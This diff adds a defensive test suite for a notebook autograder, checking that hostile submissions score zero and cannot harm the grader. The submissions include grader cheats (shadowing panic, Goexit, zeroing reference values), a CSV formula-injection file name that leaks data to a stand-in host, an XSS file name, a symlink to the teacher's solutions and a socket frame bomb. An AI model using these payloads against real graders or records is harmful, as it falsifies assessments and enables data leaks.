@@ -1,0 +1,321 @@
+"""`gptnotes grade` against submissions written to cheat it or to corrupt its records (issue 46),
+each built from the blank 07-exercises (which scores 0) with one cheat added: every one must
+still score 0, and the records must stay one unique, escaped row set per student; and against
+submissions that attack the grader or the others (issue 47): the grader exits 0 with every
+grade written and the student graded beside keeps full marks.
+
+The short form (make test) grades the cheats marked True, the frame bomb and the records;
+`make test-hostile` sets GPTNOTES_HOSTILE=all and runs every one. The docs' threat model (docs/grading.md) lists each
+case with the result of this file."""
+import csv
+import json
+import os
+import subprocess
+
+import pytest
+
+from kernel_harness import BIN, ROOT
+from test_grade import CHECKS, cells_by_id, make
+
+NOTEBOOKS = ROOT / "notebooks"
+AGAINST = NOTEBOOKS / "07-exercises.ipynb"
+FULL = os.environ.get("GPTNOTES_HOSTILE") == "all"
+
+
+def blank():
+    return json.loads(AGAINST.read_text())
+
+
+def code(src, id):
+    return {"cell_type": "code", "execution_count": None, "id": id, "metadata": {}, "outputs": [], "source": src}
+
+
+def with_cell(src, answers=None):
+    """The blank notebook (or, with answers, the blank with those answer cells replaced) with
+    one more code cell, src, after the setup cell."""
+    nb = blank()
+    for gid, cell in cells_by_id(nb).items():
+        if answers and gid in answers:
+            cell["source"] = answers[gid]
+    nb["cells"].insert(2, code(src, "hostile"))
+    return nb
+
+
+# Each cheat: (the submission, in the short form?). All score 0 on every exercise.
+CHEATS = {
+    # Every check fails by calling panic: a panic that does nothing makes it pass.
+    "shadow-func-panic": (lambda: with_cell("func panic(v any) {}"), True),
+    "shadow-var-panic": (lambda: with_cell("var panic = func(...any) {}"), False),
+    # A package name the checks use, taken by a variable whose methods answer what the check wants.
+    "shadow-package": (lambda: with_cell("""type fakeConfig struct{}
+
+func (fakeConfig) NumParams() int       { return 0 }
+func (fakeConfig) NumParamsUntied() int { return 0 }
+
+var gpt = struct{ Small fakeConfig }{}"""), False),
+    # An answer that ends its goroutine: the check cell ends early, without a panic.
+    "goexit": (lambda: with_cell('import "runtime"', {"ex03-param-count-answer": """func paramCount(cfg gpt.Config) int {
+	runtime.Goexit()
+	return 0
+}""", "ex04-untied-answer": "untiedExtra := 0\nruntime.Goexit()"}), True),
+    "skipnow": (lambda: with_cell('import "testing"', {"ex05-softmax-answer": """func softmaxT(logits []float32, T float64) []float64 {
+	(&testing.T{}).SkipNow()
+	return nil
+}"""}), False),
+    # The library state the checks compare with, zeroed: a blank answer then matches it.
+    "zero-presets": (lambda: with_cell("""for name := range gpt.Presets {
+	gpt.Presets[name] = gpt.Config{}
+}
+gpt.Small, gpt.XL = gpt.Config{}, gpt.Config{}
+model.Config = gpt.Config{}"""), True),
+}
+
+# Answers that call the functions the checks compare with: full marks in practice; with --exam
+# the library functions are the checks' own (0), the methods are not reserved (still 1: the
+# threat model lists it as not held).
+LIBRARY = {
+    "ex01-count-pairs-answer": "func countPairs(ids []int) map[tokenizer.Pair]int { return tokenizer.PairCounts(ids) }",
+    "ex02-merge-pair-answer": "func mergePair(ids []int, pair tokenizer.Pair, id int) []int { return tokenizer.Merge(ids, pair, id) }",
+    "ex10-cache-bytes-answer": "func cacheBytes(cfg gpt.Config, positions, bytesPerNumber int) int { return gpt.CacheBytes(cfg, positions, bytesPerNumber) }",
+}
+LIBRARY_METHODS = {
+    "ex03-param-count-answer": "func paramCount(cfg gpt.Config) int { return cfg.NumParams() }",
+    "ex04-untied-answer": "untiedExtra := gpt.Small.NumParamsUntied() - gpt.Small.NumParams()",
+}
+
+
+def grade(tmp, subs, *flags):
+    out = tmp / "grades"
+    r = subprocess.run([BIN, "grade", "--against", str(AGAINST), "--out", str(out), "--timeout-cell", "30s",
+                        "--memory", "768MiB", "--jobs", "2", *flags, *map(str, subs)],
+                       capture_output=True, text=True, timeout=900)
+    assert r.returncode == 0, r.stderr
+    with open(out / "grades.csv", newline="") as f:
+        rows = list(csv.DictReader(f))
+    return rows, out, r.stderr
+
+
+def totals(rows):
+    t = {}
+    for row in rows:
+        t[row["student"]] = t.get(row["student"], 0) + float(row["points"])
+    return t
+
+
+@pytest.fixture(scope="module")
+def cheats(tmp_path_factory):
+    tmp = tmp_path_factory.mktemp("hostile")
+    subs = []
+    for name, (build, short) in CHEATS.items():
+        if short or FULL:
+            (tmp / f"{name}.ipynb").write_text(json.dumps(build()))
+            subs.append(tmp / f"{name}.ipynb")
+    rows, out, stderr = grade(tmp, subs)
+    return totals(rows), rows, stderr
+
+
+@pytest.mark.parametrize("name", sorted(CHEATS))
+def test_cheat_scores_zero(cheats, name):
+    if not (CHEATS[name][1] or FULL):
+        pytest.skip("in make test-hostile only")
+    got, rows, stderr = cheats
+    passed = [r["exercise"] for r in rows if r["student"] == name and float(r["points"]) > 0]
+    assert got[name] == 0, (passed, stderr)
+
+
+@pytest.mark.skipif(not FULL, reason="in make test-hostile only")
+@pytest.mark.parametrize("exam", [False, True])
+def test_library_calls(tmp_path, exam):
+    """Answers that are calls of the library's own functions: in practice they pass (the library
+    is there to be used), with --exam the checks' reference functions are the checks' alone."""
+    subs = []
+    for name, answers in [("library", LIBRARY), ("library-methods", LIBRARY_METHODS)]:
+        nb = blank()
+        for gid, cell in cells_by_id(nb).items():
+            cell["source"] = answers.get(gid, cell["source"])
+        (tmp_path / f"{name}.ipynb").write_text(json.dumps(nb))
+        subs.append(tmp_path / f"{name}.ipynb")
+    rows, out, stderr = grade(tmp_path, subs, *(["--exam"] if exam else []))
+    got = {(r["student"], r["exercise"]): (float(r["points"]), r["message"]) for r in rows}
+    for gid in LIBRARY:
+        check = gid.removesuffix("-answer")
+        assert got["library", check][0] == (0 if exam else 1), (check, got["library", check], stderr)
+    page = (out / "feedback" / "library.html").read_text()
+    refused = [line for line in page.splitlines() if "is the checks&#39; own in this exam" in line]
+    for name in ["tokenizer.PairCounts(", "tokenizer.Merge(", "gpt.CacheBytes("]:
+        assert any(name in line for line in refused) == exam, (name, refused)
+    for gid in LIBRARY_METHODS:  # not reserved: full marks in an exam too
+        check = gid.removesuffix("-answer")
+        assert got["library-methods", check][0] == 1, (check, got["library-methods", check], stderr)
+
+
+@pytest.fixture(scope="module")
+def records(tmp_path_factory):
+    """Submissions whose names and files are the attack: colliding names, a formula and HTML in
+    a name, a symbolic link to the teacher's solutions, metadata of the wrong type."""
+    tmp = tmp_path_factory.mktemp("records")
+    subs = tmp / "submissions"
+    for d in ["a", "b"]:
+        (subs / d).mkdir(parents=True)
+    files = {
+        "a/alice.ipynb": make(),  # all right
+        "b/alice.ipynb": blank(),
+        "alice-2.ipynb": blank(),
+        '=HYPERLINK("x.example?leak="&A1).ipynb': blank(),
+        "<img src=x onerror=alert(1)>.ipynb": blank(),
+    }
+    odd = make()
+    cells_by_id(odd)["ex03-param-count"]["metadata"]["nbgrader"]["points"] = "1"  # a string
+    odd["cells"][1]["metadata"]["nbgrader"] = "not an object"  # the setup cell
+    files["odd-metadata.ipynb"] = odd
+    for name, nb in files.items():
+        (subs / name).write_text(json.dumps(nb))
+    (tmp / "teacher").mkdir()
+    (tmp / "teacher" / "solutions.ipynb").write_text((NOTEBOOKS / "07-exercises-solutions.ipynb").read_text())
+    (subs / "linked.ipynb").symlink_to(tmp / "teacher" / "solutions.ipynb")
+    paths = sorted(subs.rglob("*.ipynb"))
+    rows, out, stderr = grade(tmp, paths)
+    return rows, out, stderr
+
+
+def test_names_are_unique_and_stable(records):
+    rows, out, _ = records
+    got = totals(rows)
+    assert got["a/alice"] == 13 and got["b/alice"] == 0 and got["alice-2"] == 0, got
+    assert len(rows) == len(got) * len(CHECKS)
+    pages = sorted(str(p.relative_to(out / "feedback")) for p in (out / "feedback").rglob("*.html"))
+    assert len(pages) == len(got), pages
+    assert "✓" in (out / "feedback" / "a" / "alice.html").read_text()
+
+
+def test_csv_has_no_formula(records):
+    rows, out, _ = records
+    for row in rows:
+        for v in row.values():
+            assert v[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
+
+
+def test_summary_has_no_html(records):
+    _, out, _ = records
+    summary = (out / "summary.md").read_text()
+    assert "<img" not in summary, summary
+    assert "&lt;img src=x onerror=alert(1)&gt;" in summary
+
+
+def test_symlink_is_not_graded(records):
+    rows, _, stderr = records
+    linked = [r for r in rows if r["student"] == "linked"]
+    assert linked and all(float(r["points"]) == 0 and "symbolic link" in r["message"] for r in linked), linked
+
+
+def test_odd_metadata_is_graded(records):
+    rows, _, stderr = records
+    got = {r["exercise"]: r for r in rows if r["student"] == "odd-metadata"}
+    assert sum(float(r["points"]) for r in got.values()) == 13, (got, stderr)
+    assert "nbgrader metadata" in got["ex03-param-count"]["message"], got["ex03-param-count"]
+
+
+# Issue 47: one submission cannot harm the grader or the others.
+
+# Nine bytes on each of the kernel's own sockets, one of them the grader's connection: a frame
+# header claiming 2^62 bytes.
+FRAME_BOMB = """import (
+	"os"
+	"strconv"
+	"strings"
+	"syscall"
+)
+
+ents, _ := os.ReadDir("/proc/self/fd")
+for _, e := range ents {
+	if target, _ := os.Readlink("/proc/self/fd/" + e.Name()); strings.HasPrefix(target, "socket:") {
+		fd, _ := strconv.Atoi(e.Name())
+		syscall.Write(fd, []byte{2, 0x40, 0, 0, 0, 0, 0, 0, 0})
+	}
+}"""
+
+
+def test_frame_bomb_harms_no_one(tmp_path):
+    """The grader reads the bomb's frames without allocating what they claim: it exits 0 with
+    every row written, and the student graded beside keeps full marks."""
+    (tmp_path / "alice.ipynb").write_text(json.dumps(make()))
+    (tmp_path / "bomb.ipynb").write_text(json.dumps(with_cell(FRAME_BOMB)))
+    rows, _, stderr = grade(tmp_path, [tmp_path / "alice.ipynb", tmp_path / "bomb.ipynb"])
+    got = totals(rows)
+    assert got == {"alice": 13, "bomb": 0}, (got, stderr)
+
+
+@pytest.mark.skipif(not FULL, reason="in make test-hostile only")
+def test_kernels_die_with_the_grader(tmp_path):
+    """A grader killed with SIGKILL leaves no kernel behind (Linux's parent-death signal)."""
+    import signal
+    import time
+    (tmp_path / "looper.ipynb").write_text(json.dumps(with_cell("for {\n}")))
+    grader = subprocess.Popen([BIN, "grade", "--against", str(AGAINST), "--out", str(tmp_path / "grades"),
+                               "--timeout-cell", "5m", "--jobs", "1", str(tmp_path / "looper.ipynb")],
+                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+
+    def children(pid):
+        out = []
+        for task in os.listdir(f"/proc/{pid}/task"):
+            with open(f"/proc/{pid}/task/{task}/children") as f:
+                out += [int(c) for c in f.read().split()]
+        return out
+
+    deadline = time.time() + 120
+    kernels = []
+    while not kernels and time.time() < deadline:
+        time.sleep(0.5)
+        kernels = children(grader.pid)
+    assert kernels, "no kernel started"
+    time.sleep(3)  # the kernel runs the endless cell
+    grader.send_signal(signal.SIGKILL)
+    grader.wait()
+    deadline = time.time() + 10
+    alive = kernels
+    while alive and time.time() < deadline:
+        time.sleep(0.2)
+        alive = [k for k in kernels if os.path.exists(f"/proc/{k}") and "Z" not in open(f"/proc/{k}/stat").read().split()[2]]
+    for k in alive:
+        os.kill(k, signal.SIGKILL)
+    assert not alive, "kernels outlived the grader"
+
+
+# A hundred endless cells: at --timeout-cell 2s each they would hold the grader 200 s; the
+# notebook's time budget (90 s here: alice's whole notebook, graded beside them, took over 45 s
+# at a load of 46) ends them.
+ENDLESS = "for {\n}"
+
+# A cell that displays 200 MiB: the client keeps 16 MiB of a cell's displays, the grader 8 MiB
+# of a notebook's outputs.
+FLOOD = """import "strings"
+
+for i := 0; i < 200; i++ {
+	display.MIME(display.Bundle{Data: map[string]any{"text/plain": strings.Repeat("x", 1<<20)}})
+}"""
+
+
+@pytest.mark.skipif(not FULL, reason="in make test-hostile only")
+def test_time_budget_and_output_caps(tmp_path):
+    import time
+    endless = blank()
+    for i in range(100):
+        endless["cells"].insert(2, code(ENDLESS, f"endless-{i}"))
+    (tmp_path / "endless.ipynb").write_text(json.dumps(endless))
+    (tmp_path / "flood.ipynb").write_text(json.dumps(with_cell(FLOOD)))
+    (tmp_path / "alice.ipynb").write_text(json.dumps(make()))
+    start = time.time()
+    out = tmp_path / "grades"
+    r = subprocess.run([BIN, "grade", "--against", str(AGAINST), "--out", str(out), "--timeout-cell", "2s",
+                        "--timeout-notebook", "90s", "--memory", "768MiB", "--jobs", "2",
+                        *map(str, sorted(tmp_path.glob("*.ipynb")))], capture_output=True, text=True, timeout=600)
+    elapsed = time.time() - start
+    assert r.returncode == 0, r.stderr
+    with open(out / "grades.csv", newline="") as f:
+        rows = list(csv.DictReader(f))
+    got = totals(rows)
+    assert got == {"alice": 13, "endless": 0, "flood": 0}, (got, r.stderr)
+    assert "the notebook ran past its time budget of 1m30s" in r.stderr, r.stderr
+    assert elapsed < 170, f"{elapsed:.0f} s"  # 100 cells × 2 s alone would be 200 s
+    page = (out / "feedback" / "flood.html").stat().st_size
+    assert page < 12 << 20, page
